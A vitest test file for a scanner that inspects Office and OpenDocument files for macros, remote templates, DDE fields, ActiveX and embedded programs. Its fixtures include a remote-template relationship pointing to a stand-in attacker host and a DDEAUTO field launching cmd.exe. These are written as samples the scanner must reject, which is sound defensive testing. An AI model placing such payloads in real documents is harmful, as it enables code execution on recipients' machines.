import { describe, expect, it } from 'vitest'
import { inspectOffice } from '@/platform/media/inspect-office'
import { oleHasMacros, officeFindings } from '@/platform/media/rules/office-findings'
import { docxFile, zipFile } from '../../../fixtures/zip-file'

const rels = (...relationships: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join('')}</Relationships>`
const HYPERLINK = '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>'
const REMOTE_TEMPLATE = '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'

/** A legacy compound file with one directory entry named `name` at a 128-byte boundary. */
function oleWithEntry(name: string, at = 1024): Buffer {
  const bytes = Buffer.alloc(2048)
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bytes, 0)
  Buffer.from(name, 'utf16le').copy(bytes, at)
  bytes.writeUInt16LE((name.length + 1) * 2, at + 64)
  return bytes
}

describe('Office files', () => {
  it('passes an ordinary document with hyperlinks', () => {
    expect(inspectOffice(docxFile({ documentRels: rels(HYPERLINK) }), 'docx')).toEqual({ verdict: 'ok' })
  })

  it('refuses macros, also in a .docm renamed to .docx', () => {
    expect(inspectOffice(docxFile({ extra: { 'word/vbaProject.bin': Buffer.from('VBA') } }), 'docx')).toEqual({ verdict: 'unsafe', findings: ['macros'] })
    const renamed = docxFile({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' })
    expect(inspectOffice(renamed, 'docx')).toEqual({ verdict: 'unsafe', findings: ['macros'] })
  })

  it('refuses a remote template, an external workbook link and a DDE field', () => {
    expect(inspectOffice(docxFile({ documentRels: rels(HYPERLINK, REMOTE_TEMPLATE) }), 'docx')).toEqual({ verdict: 'unsafe', findings: ['external-link'] })
    expect(officeFindings([{ name: 'xl/externalLinks/externalLink1.xml' }])).toEqual(['external-link'])
    const dde = docxFile({ body: '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>' })
    expect(inspectOffice(dde, 'docx')).toEqual({ verdict: 'unsafe', findings: ['dde'] })
  })

  it('refuses ActiveX controls and packaged objects, not an embedded chart workbook', () => {
    expect(officeFindings([{ name: 'word/activeX/activeX1.xml' }])).toEqual(['activex'])
    expect(officeFindings([{ name: 'word/embeddings/oleObject1.bin' }])).toEqual(['embedded-program'])
    expect(officeFindings([{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx' }])).toEqual([])
  })

  it('refuses OpenDocument Basic macros', () => {
    const odt = zipFile({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<office:document-content/>', 'Basic/Standard/Module1.xml': '<script:module/>' })
    expect(inspectOffice(odt, 'odt')).toEqual({ verdict: 'unsafe', findings: ['macros'] })
  })

  it('does not vouch for a zip it cannot read', () => {
    const broken = docxFile().subarray(0, 200)
    expect(inspectOffice(broken, 'docx')).toEqual({ verdict: 'uninspectable' })
  })

  it('finds a VBA storage in a legacy .doc or .xls, not the word in the text', () => {
    expect(oleHasMacros(oleWithEntry('Macros'))).toBe(true)
    expect(oleHasMacros(oleWithEntry('_VBA_PROJECT_CUR', 1536))).toBe(true)
    expect(oleHasMacros(oleWithEntry('WordDocument'))).toBe(false)
    const inText = Buffer.alloc(2048)
    Buffer.from('Macros', 'utf16le').copy(inText, 1030)
    expect(oleHasMacros(inText)).toBe(false)
    expect(inspectOffice(oleWithEntry('Macros'), 'doc')).toEqual({ verdict: 'unsafe', findings: ['macros'] })
  })
})
